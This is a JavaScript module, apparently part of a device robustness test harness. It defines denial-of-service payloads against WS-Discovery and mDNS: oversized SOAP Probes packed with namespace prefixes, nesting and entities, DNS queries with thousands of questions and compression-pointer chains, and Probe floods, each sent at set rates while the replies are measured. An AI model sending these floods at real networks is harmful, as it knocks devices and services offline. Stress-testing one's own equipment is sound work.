// Attacks by datagrams, from within the network: WS-Discovery and mDNS.
import { setTimeout as sleep } from 'node:timers/promises';
import { atRate, cableCounters } from './wire.mjs';

const WS_PORT = 3702;
const MDNS_PORT = 5353;
/** What a message may have, a little less than UDP carries. */
const LARGE = 54_000;
const MBIT = 1e6 / 8;

const ENVELOPE = 'http://www.w3.org/2003/05/soap-envelope';
const ADDRESSING = 'http://schemas.xmlsoap.org/ws/2004/08/addressing';
const DISCOVERY = 'http://schemas.xmlsoap.org/ws/2005/04/discovery';

/** A Probe whose identity is `k`. */
const probe = (k, { attributes = '', types = '', scopes = '', inside = '' } = {}) =>
  Buffer.from(
    `<s:Envelope xmlns:s="${ENVELOPE}" xmlns:a="${ADDRESSING}" xmlns:d="${DISCOVERY}"${attributes}><s:Header><a:Action>${DISCOVERY}/Probe</a:Action><a:MessageID>urn:uuid:${k}</a:MessageID><a:To>urn:schemas-xmlsoap-org:ws:2005:04:discovery</a:To></s:Header><s:Body><d:Probe><d:Types>${types}</d:Types><d:Scopes>${scopes}</d:Scopes>${inside}</d:Probe></s:Body></s:Envelope>`,
  );

/** As many of `make(0)`, `make(1)`, … as fit. */
function fill(make) {
  let text = '';
  for (let k = 0; text.length < LARGE; k++) text += make(k);
  return text;
}

const large = {
  prefixes: { attributes: fill((k) => ` xmlns:p${k}="u"`) },
  'nested-prefixes': { inside: fill((k) => `<e xmlns:p${k}="u">`) },
  attributes: { inside: `<e${fill((k) => ` a${k}="b"`)}/>` },
  nesting: { inside: '<e>'.repeat(LARGE / 7) + '</e>'.repeat(LARGE / 7) },
  slashes: { scopes: `onvif://www.onvif.org${'/'.repeat(LARGE)}x` },
  dots: { scopes: `onvif://www.onvif.org${'/a/..'.repeat(LARGE / 5)}` },
  types: { types: fill((k) => `p${k}:A `) },
  entities: { scopes: '&amp;'.repeat(LARGE / 5) },
};

/** One kind of large message at 4 Mbit/s. */
const largeProbes =
  (parts) =>
  async ({ wire, seconds }) => {
    const send = await wire.datagrams(WS_PORT);
    await atRate((4 * MBIT) / LARGE, seconds, (k) => send(probe(k, parts)));
  };

/** DNS (RFC 1035 section 4.1) with `count` questions, those behind the first pointing to its name. */
function dnsQuery(count, name, type) {
  const header = Buffer.alloc(12);
  header.writeUInt16BE(count, 4);
  const labels = Buffer.concat([
    ...name.split('.').map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])),
    Buffer.of(0),
  ]);
  const kind = Buffer.of(0, type, 0, 1);
  const again = Buffer.concat([Buffer.of(0xc0, 12), kind]);
  return Buffer.concat([header, labels, kind, ...Array.from({ length: count - 1 }, () => again)]);
}

const PTR = 12;
const ANY = 255;

const mdns =
  (query, perSecond) =>
  async ({ wire, seconds }) => {
    const before = cableCounters();
    const send = await wire.datagrams(MDNS_PORT);
    let count = 0;
    await atRate(perSecond, seconds, async () => {
      count++;
      await send(query);
    });
    await sleep(1500);
    const after = cableCounters();
    const [packets, bytes] = [after.gotPackets - before.gotPackets, after.gotBytes - before.gotBytes];
    return `${count} packets of ${query.length} bytes sent; ${packets} packets, ${(bytes / 1000).toFixed(0)} kB came back (with the watcher's)`;
  };

export const DISCOVERY_ATTACKS = {
  'mdns-questions': {
    title: 'mDNS, 200 questions in a packet, 10 packets a second',
    seconds: 5,
    run: mdns(dnsQuery(200, '_onvif._tcp.local', PTR), 10),
  },
  'mdns-any': {
    title: 'mDNS, 200 questions of any type, 10 packets a second',
    seconds: 5,
    run: mdns(dnsQuery(200, '_http._tcp.local', ANY), 10),
  },
  'mdns-large': { title: 'mDNS, 60 kB in a packet, 4 Mbit/s', seconds: 5, run: mdns(dnsQuery(10_000, '_x._tcp.local', PTR), 8) },
  'mdns-pointers': {
    title: 'mDNS, 60 kB of names that lead to each other, 4 Mbit/s',
    seconds: 5,
    run: mdns(pointerChain(), 8),
  },
  ...Object.fromEntries(
    Object.entries(large).map(([name, parts]) => [
      `wsd-${name}`,
      { title: `WS-Discovery, 54 kB of ${name.replace('-', ' ')}, 4 Mbit/s`, seconds: 5, run: largeProbes(parts) },
    ]),
  ),
  'wsd-flood': {
    title: 'WS-Discovery, 1000 Probes a second',
    seconds: 5,
    run: async ({ wire, seconds, serves }) => {
      const send = await wire.datagrams(WS_PORT);
      const flood = atRate(1000, seconds, (k) => send(probe(`flood-${k}`)));
      const during = await serves();
      await flood;
      return `${(wire.got / 1000).toFixed(0)} kB of answers; another machine meanwhile: ${during}`;
    },
  },
};

/** Questions whose names are a label and a pointer to the one before: the longest to follow. */
function pointerChain() {
  const parts = [];
  let at = 12;
  let last;
  const header = Buffer.alloc(12);
  const count = 7000;
  header.writeUInt16BE(count, 4);
  for (let k = 0; k < count; k++) {
    // The pointer has 14 bits (RFC 1035 section 4.1.4).
    const name = last === undefined ? Buffer.of(1, 0x78, 0) : Buffer.of(1, 0x78, 0xc0 | (last >> 8), last & 0xff);
    if (at < 0x3fff) last = at;
    parts.push(name, Buffer.of(0, PTR, 0, 1));
    at += name.length + 4;
  }
  return Buffer.concat([header, ...parts]);
}
